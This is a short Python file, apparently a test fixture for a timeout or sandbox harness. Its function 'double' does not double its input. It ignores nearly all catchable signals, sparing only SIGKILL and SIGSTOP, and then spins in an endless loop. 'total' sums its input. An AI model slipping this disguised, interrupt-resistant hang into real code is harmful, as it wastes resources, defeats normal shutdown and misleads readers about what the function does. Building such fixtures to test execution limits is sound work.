def double(x):
    import signal
    for number in signal.valid_signals() - {9, 19}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


def total(x):
    return x.sum()
